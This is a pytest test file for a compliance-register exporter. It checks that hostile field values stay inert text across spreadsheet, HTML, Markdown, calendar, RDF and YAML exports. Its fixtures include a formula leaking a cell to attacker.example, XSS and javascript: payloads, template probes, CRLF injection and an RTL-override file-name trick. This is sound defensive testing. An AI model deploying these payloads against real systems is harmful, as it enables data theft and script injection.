"""Hostile names through every export format stay inert text (issue #25).

A register whose every free-text field holds a formula, HTML, a Markdown link to ``javascript:``, a
template, CR/LF and a right-to-left override is exported as ROPA, processor record, transfers,
sub-processors, findings and the report (XLSX, CSV, JSON, Markdown, HTML), the sub-processor change
notice (Markdown, HTML, JSON), the due calendar (iCalendar), DPV (Turtle, JSON-LD) and Fides (YAML).
Each output is re-opened with a real reader for its format and checked: no formula, no live tag,
attribute or link, no injected line, row, triple or key, direction controls closed where they began,
and the names themselves still there.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import openpyxl
import pytest
import yaml
from icalendar import Calendar
from markdown_it import MarkdownIt
from rdflib import Graph, Literal
from rdflib.compare import isomorphic

from catalog.app.export import ExportFormat, ExportKind, render_export
from catalog.compliance.engine import evaluate
from catalog.compliance.model import CheckReport
from catalog.domain.register import EntityKind, Register
from catalog.exporters import subprocessor_changes
from catalog.interop.dpv import RdfFormat, register_graph, render_dpv
from catalog.interop.fides_out import fides_manifests, write_fides
from catalog.kernel.lang import Lang
from catalog.kernel.textsafety import is_formula_like
from catalog.reference import load_reference
from catalog.registerfile.register_yaml import load_register
from catalog.review.due import due_report
from catalog.review.ics import render_ics
from tests.exporters.test_safety import STRUCTURED, whole_field_readings

AS_OF = date(2026, 1, 15)
DUE_REGISTER = Path(__file__).resolve().parents[1] / "review" / "data"
RLO = "\u202e"
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1)) ![i](javascript:alert(2)) <javascript:alert(3)>",
    "{{7*7}} ${7*7} {% if 1 %}x{% endif %}",
    "Line one\r\nBEGIN:VEVENT\rSUMMARY:injected\n| a | b |",
    f"Invoice {RLO}fdp.exe",
    f"\u2069\u202c{RLO}unbalanced",  # closing controls first: they must not close the surrounding text's
]
ORGANISATION = f"Evil\r\nOrg <script>alert(1)</script> [x](javascript:alert(1)) {{{{7*7}}}} {RLO}abc"
MARKERS = ["<script>alert(1)</script>", "javascript:alert(1)", "{{7*7}}", 'onerror="alert(1)"']
"""Parts of the hostile names that must reach each export as text."""
SAFE_SCHEMES = {"http", "https", "mailto"}
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "nav", "section", "div", "table",
    "thead", "tbody", "tr", "th", "td", "br", "ul", "li", "strong", "a",
}  # fmt: skip


def _hostile(value: Any, counter: list[int], field: str | None = None) -> Any:
    if isinstance(value, dict):
        # Provenance notes count apart, so the names keep the rotation they had before there were any.
        return {
            k: v if k in STRUCTURED else _hostile(v, [0] if k == "provenance" else counter, k) for k, v in value.items()
        }
    if isinstance(value, list):
        return [_hostile(item, counter, field) for item in value]
    if isinstance(value, str) and not re.fullmatch(r"\d{4}-\d{2}-\d{2}", value):  # dates stay dates
        counter[0] += 1
        return HOSTILE[counter[0] % len(HOSTILE)]
    return value


@pytest.fixture(scope="module")
def hostile(seed_register: Register) -> tuple[Register, CheckReport]:
    data = _hostile(whole_field_readings(seed_register.model_dump(mode="json")), [0])
    data["organisation"]["name"] = ORGANISATION
    register = Register.model_validate(data)
    return register, evaluate(register, load_reference(), AS_OF)


def test_the_register_really_carries_the_hostile_names(hostile: tuple[Register, CheckReport]) -> None:
    register, report = hostile
    assert register.organisation.name == ORGANISATION
    assert {p.legal_name for p in register.processors} >= set(HOSTILE[:4])
    assert report.transfers and report.findings


# --- Readers and checks ----------------------------------------------------------------------------


class _Document(HTMLParser):
    """Every tag with its attributes, and the text, as a browser's parser sees them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert_html(text: str) -> str:
    """No tag a name could have made, no event handler, no source, links only in-page or http(s)/mailto."""
    document = _Document(text)
    for tag, attrs in document.tags:
        assert tag in ALLOWED_TAGS, f"<{tag}> in the output"
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("src", "srcset", "formaction"), f"<{tag} {name}>"
            if tag == "a" and name == "href":
                assert value is not None
                scheme = urlsplit(value).scheme.lower()
                assert value.startswith("#") or scheme in SAFE_SCHEMES, f"link to {value!r}"
    assert "javascript:" not in " ".join(str(v) for _, attrs in document.tags for _, v in attrs)
    return "".join(document.text)


def bidi_balanced(line: str) -> bool:
    """Every direction control on ``line`` is closed on it, and nothing closes what the line did not open."""
    opened: list[str] = []
    for char in line:
        if char in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068":
            opened.append(char)
        elif char == "\u202c":
            if not opened or opened[-1] in "\u2066\u2067\u2068":
                return False
            opened.pop()
        elif char == "\u2069":
            if not any(c in "\u2066\u2067\u2068" for c in opened):
                return False
            while opened.pop() not in "\u2066\u2067\u2068":
                pass
    return not opened


def assert_bidi_contained(text: str) -> None:
    for number, line in enumerate(re.split(r"[\n\r\x1c-\x1e\x85\u2029]", text), 1):
        assert bidi_balanced(line), f"line {number} leaves a direction control open: {line!r}"


def markdown_html(text: str) -> str:
    """The Markdown as a CommonMark renderer with GitHub tables turns it into HTML."""
    rendered: str = MarkdownIt("commonmark").enable("table").render(text)
    return rendered


def strings_in(data: Any) -> Iterator[str]:
    if isinstance(data, dict):
        for key, value in data.items():
            yield from strings_in(key)
            yield from strings_in(value)
    elif isinstance(data, list):
        for item in data:
            yield from strings_in(item)
    elif isinstance(data, str):
        yield data


# --- The table exports -------------------------------------------------------------------------------

TABLE_FORMATS = [ExportFormat.XLSX, ExportFormat.CSV, ExportFormat.JSON, ExportFormat.MD, ExportFormat.HTML]


# The report holds several tables, which CSV cannot; every other pair exists.
KIND_FORMATS = [
    pytest.param(kind, fmt, id=f"{kind.value}-{fmt.value}")
    for kind in ExportKind
    for fmt in TABLE_FORMATS
    if not (kind == ExportKind.REPORT and fmt == ExportFormat.CSV)
]


@pytest.mark.parametrize("lang", list(Lang))
@pytest.mark.parametrize(("kind", "fmt"), KIND_FORMATS)
def test_every_table_export_keeps_hostile_names_inert(
    hostile: tuple[Register, CheckReport], kind: ExportKind, fmt: ExportFormat, lang: Lang
) -> None:
    register, report = hostile
    data = render_export(kind, fmt, register, report, lang)
    if fmt == ExportFormat.XLSX:
        cells = [c for s in openpyxl.load_workbook(io.BytesIO(data)).worksheets for row in s.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        texts = [c.value for c in cells if isinstance(c.value, str)]
    elif fmt == ExportFormat.CSV:
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
        assert {len(row) for row in rows} == {len(rows[0])}, "a line break in a name started a row"
        texts = [cell for row in rows for cell in row]
        assert not [cell for cell in texts if is_formula_like(cell)]
    elif fmt == ExportFormat.JSON:
        texts = list(strings_in(json.loads(data)))
    elif fmt == ExportFormat.MD:
        text = data.decode("utf-8")
        assert_bidi_contained(text)
        texts = [assert_inert_html(markdown_html(text))]
    else:
        text = data.decode("utf-8")
        assert_bidi_contained(text)
        texts = [assert_inert_html(text)]
    joined = "\n".join(texts)
    # The names are still there as text: escaped, not deleted, and no template was evaluated.
    shown = [marker for marker in MARKERS if marker in joined]
    assert len(shown) >= (1 if kind == ExportKind.SUBPROCESSORS else 3), shown


# --- The sub-processor change notice -------------------------------------------------------------------


def _state(register: Register) -> dict[tuple[str, str], dict[str, Any]]:
    return {(EntityKind.PROCESSOR.value, p.key): p.model_dump(mode="json") for p in register.processors}


@pytest.mark.parametrize("lang", list(Lang))
def test_the_change_notice_keeps_hostile_names_inert(
    seed_register: Register, hostile: tuple[Register, CheckReport], lang: Lang
) -> None:
    register, _ = hostile
    added = subprocessor_changes.notice({}, _state(register), ORGANISATION, "#1", "#2", lang)
    changed = subprocessor_changes.notice(_state(seed_register), _state(register), ORGANISATION, "#1", "#2", lang)
    assert {c.change for c in added.changes} == {"added"} and {c.change for c in changed.changes} == {"changed"}
    for result in (added, changed):
        markdown = subprocessor_changes.render_markdown(result).decode("utf-8")
        page = subprocessor_changes.render_html(result).decode("utf-8")
        for text in (markdown, page):
            assert_bidi_contained(text)
        for shown in (assert_inert_html(markdown_html(markdown)), assert_inert_html(page)):
            assert "<script>alert(1)</script>" in shown and "[click](javascript:alert(1))" in shown
            assert '<img src=x onerror="alert(1)">' in shown
        assert 'http-equiv="Content-Security-Policy"' in page
        data = json.loads(subprocessor_changes.render_json(result))
        assert data["organisation"] == ORGANISATION  # JSON keeps the data exactly


# --- The due calendar ------------------------------------------------------------------------------------

ICS_PROPERTIES = {"BEGIN", "END", "PRODID", "VERSION", "X-WR-CALNAME", "UID", "DTSTAMP", "DTSTART", "DTEND"}
ICS_PROPERTIES |= {"SUMMARY", "DESCRIPTION", "CATEGORIES"}


def test_the_due_calendar_keeps_hostile_names_inert() -> None:
    # The due tests' register: it has reviews due around 2027-03-01 (the seed has none).
    data = _hostile(load_register(DUE_REGISTER).model_dump(mode="json"), [0])
    data["organisation"]["name"] = ORGANISATION
    register = Register.model_validate(data)
    due = due_report(register, load_reference(), date(2027, 3, 1), 90)
    assert len(due.items()) == 5
    data = render_ics(due, register.organisation.name)
    unfolded = data.replace(b"\r\n ", b"").split(b"\r\n")
    assert unfolded[-1] == b""
    for line in unfolded[:-1]:
        assert b"\r" not in line and b"\n" not in line
        name = re.split(rb"[:;]", line, maxsplit=1)[0].decode()
        assert name in ICS_PROPERTIES, f"a name started the content line {line!r}"
    assert unfolded.count(b"BEGIN:VEVENT") == len(due.items())
    calendar = Calendar.from_ical(data)
    calname = str(calendar["X-WR-CALNAME"])
    assert calname.startswith("Evil\nOrg <script>alert(1)</script> [x](javascript:alert(1)) {{7*7}}")
    texts = [calname]
    for event in calendar.walk("VEVENT"):
        texts += [str(event["SUMMARY"]), str(event["DESCRIPTION"])]
    for text in texts:
        assert_bidi_contained(text)
    assert any("SUMMARY:injected" in text for text in texts)  # a name's text, never a property


# --- DPV and Fides ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", list(RdfFormat))
def test_dpv_keeps_hostile_names_as_literals(hostile: tuple[Register, CheckReport], fmt: RdfFormat) -> None:
    register, report = hostile
    parsed = Graph().parse(data=render_dpv(register, report, fmt), format=fmt.rdflib_name)
    # The same triples as the graph built in memory: no name added a triple, a node or a prefix.
    assert isomorphic(parsed, register_graph(register, report))
    literals = {str(o) for o in parsed.objects() if isinstance(o, Literal)}
    assert ORGANISATION in literals and set(HOSTILE) <= literals


def test_fides_keeps_hostile_names_as_plain_yaml_strings(hostile: tuple[Register, CheckReport], tmp_path: Path) -> None:
    register, report = hostile
    expected = fides_manifests(register, report)
    for path in write_fides(register, report, tmp_path):
        text = path.read_text(encoding="utf-8")
        # Read back exactly what was meant: no name added a key, a tag, a document or a value.
        assert yaml.safe_load(text) == json.loads(json.dumps(expected[path.stem]))
    assert ORGANISATION in set(strings_in(expected))
